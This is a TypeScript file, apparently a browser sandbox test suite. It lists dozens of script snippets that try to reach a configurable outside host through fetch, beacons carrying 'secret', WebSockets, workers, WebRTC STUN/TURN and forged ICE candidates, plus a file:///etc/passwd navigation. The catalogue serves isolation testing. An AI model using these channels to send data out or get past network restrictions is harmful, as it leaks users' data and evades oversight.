import { type Aim, type BrowserAttempt, scripts } from "./way";

const inWorker = (code: string) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`;

export const calls = ({ there, udp }: Aim): BrowserAttempt[] => {
  const ws = there.replace("http", "ws");
  const https = there.replace("http", "https");
  const [udpHost, udpPort] = udp.split(":");
  const peer = (servers: string) => `
    const peer = new RTCPeerConnection({ iceServers: ${servers} });
    peer.createDataChannel("a");
    await peer.setLocalDescription();`;
  return scripts({
    fetch: `await fetch("${there}/fetch", { mode: "no-cors" })`,
    "fetch with credentials": `await fetch("${there}/cors", { credentials: "include", method: "PUT", body: "secret" })`,
    keepalive: `fetch("${there}/keepalive", { keepalive: true, mode: "no-cors", method: "POST", body: "a" }); location = "about:blank"`,
    fetchLater: { code: `fetchLater("${there}/later", { activateAfter: 0 })` },
    XHR: `const x = new XMLHttpRequest(); x.open("POST", "${there}/xhr"); x.send("secret")`,
    "synchronous XHR": `const x = new XMLHttpRequest(); x.open("GET", "${there}/sync", false); x.send()`,
    beacon: `navigator.sendBeacon("${there}/beacon", "secret")`,
    "beacon on leaving": `addEventListener("pagehide", () => navigator.sendBeacon("${there}/bye", "secret")); location = "about:blank"`,
    WebSocket: `new WebSocket("${ws}/ws")`,
    "secure WebSocket": `new WebSocket("${ws.replace("ws", "wss")}/wss")`,
    WebSocketStream: { code: `new WebSocketStream("${ws}/stream")` },
    EventSource: `new EventSource("${there}/events")`,
    WebTransport: { code: `await new WebTransport("https://${udp}/wt").ready` },
    image: `new Image().src = "${there}/image"`,
    "import()": `await import("${there}/import.js")`,
    worker: `${inWorker(`fetch("${there}/worker", { mode: "no-cors" })`)}; await sleep(300)`,
    "worker script": { code: `new Worker("${there}/worker.js")`, isHarmless: true },
    importScripts: `${inWorker(`importScripts("${there}/scripts.js")`)}; await sleep(300)`,
    "WebSocket in a worker": `${inWorker(`new WebSocket("${ws}/in-worker")`)}; await sleep(300)`,
    "worker in a worker": `${inWorker(inWorker(`fetch("${there}/deep", { mode: "no-cors" })`))}; await sleep(400)`,
    "shared worker": `new SharedWorker(URL.createObjectURL(new Blob(['fetch("${there}/shared", { mode: "no-cors" })']))); await sleep(300)`,
    "shared worker of the site": `new SharedWorker("/shared-worker.js"); await sleep(300)`,
    "service worker": {
      code: `await navigator.serviceWorker.register("/service-worker.js"); await sleep(500)`,
    },
    "service worker in a frame": {
      code: `const f = document.createElement("iframe"); f.src = "/blank"; document.body.append(f); await new Promise((done) => f.onload = done);
        await f.contentWindow.navigator.serviceWorker.register("/service-worker.js"); await sleep(500)`,
    },
    "audio worklet": `await new AudioContext().audioWorklet.addModule("${there}/worklet.js")`,
    "paint worklet": { code: `await CSS.paintWorklet.addModule("${there}/paint.js")` },
    popup: { code: `open("${there}/popup")` },
    "popup of a popup": {
      code: `const w = open("about:blank"); w.location = "${there}/popup"`,
    },
    navigation: `location = "${there}/location"`,
    "navigation by redirect": `location = "/to-there"`,
    "fetch by redirect": `await fetch("/to-there", { mode: "no-cors" })`,
    "frame by redirect": `const f = document.createElement("iframe"); f.src = "/to-there"; document.body.append(f); await sleep(200)`,
    "image by redirect": `new Image().src = "/to-there"; await sleep(200)`,
    "endless navigation": `for (let i = 0; i < 20; i++) { location = "${there}/endless" + i; await sleep(10) }`,
    "blob document": `const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(['<img src="${there}/blob">'], { type: "text/html" })); document.body.append(f); await sleep(200)`,
    "javascript document": `const f = document.createElement("iframe"); f.src = 'javascript:\\'<img src="${there}/javascript">\\''; document.body.append(f); await sleep(200)`,
    "document.write": `document.write('<img src="${there}/written">'); await sleep(100)`,
    "file address": { code: `location = "file:///etc/passwd"`, isHarmless: true },
    "view-source": { code: `open("view-source:${there}/source")`, isHarmless: true },
    "browser page": { code: `location = "chrome://settings"`, isHarmless: true },
    "media source": `const a = new Audio("${there}/sound"); a.preload = "auto"; a.load(); await sleep(100)`,
    "font face": `await new FontFace("a", 'url("${there}/face")').load()`,
    "payment method": {
      code: `await new PaymentRequest([{ supportedMethods: "${https}/pay" }], { total: { label: "a", amount: { currency: "EUR", value: "1" } } }).canMakePayment()`,
      isHarmless: true,
    },
    "federated login": {
      code: `await navigator.credentials.get({ identity: { providers: [{ configURL: "${https}/fedcm.json", clientId: "a" }] } })`,
    },
    notification: { code: `new Notification("a", { icon: "${there}/bell" })`, isHarmless: true },
    "media session": {
      code: `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: "${there}/art" }] })`,
      isHarmless: true,
    },
    "background fetch": {
      code: `const r = await navigator.serviceWorker.ready; await r.backgroundFetch.fetch("a", "${there}/background")`,
      isHarmless: true,
    },
    STUN: `${peer(`[{ urls: "stun:${udp}" }]`)} await sleep(500)`,
    "TURN over UDP": `${peer(`[{ urls: "turn:${udp}", username: "a", credential: "b" }]`)} await sleep(500)`,
    "TURN over TCP": `${peer(`[{ urls: "turn:${there.slice(7)}?transport=tcp", username: "a", credential: "b" }]`)} await sleep(500)`,
    "TURN over TLS": `${peer(`[{ urls: "turns:${there.slice(7)}?transport=tcp", username: "a", credential: "b" }]`)} await sleep(500)`,
    "forged ICE candidates": `
      const a = new RTCPeerConnection(), b = new RTCPeerConnection();
      a.createDataChannel("a");
      await a.setLocalDescription();
      await b.setRemoteDescription(a.localDescription);
      await b.setLocalDescription();
      await a.setRemoteDescription(b.localDescription);
      await a.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 ${udpHost} ${udpPort} typ host", sdpMid: "0" });
      await a.addIceCandidate({ candidate: "candidate:2 1 tcp 1518280447 ${udpHost} ${there.split(":").at(-1)} typ host tcptype passive", sdpMid: "0" });
      await sleep(800)`,
    "STUN in a frame": `
      const f = document.createElement("iframe"); document.body.append(f);
      const peer = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:${udp}" }] });
      peer.createDataChannel("a"); await peer.setLocalDescription(); await sleep(500)`,
  });
};
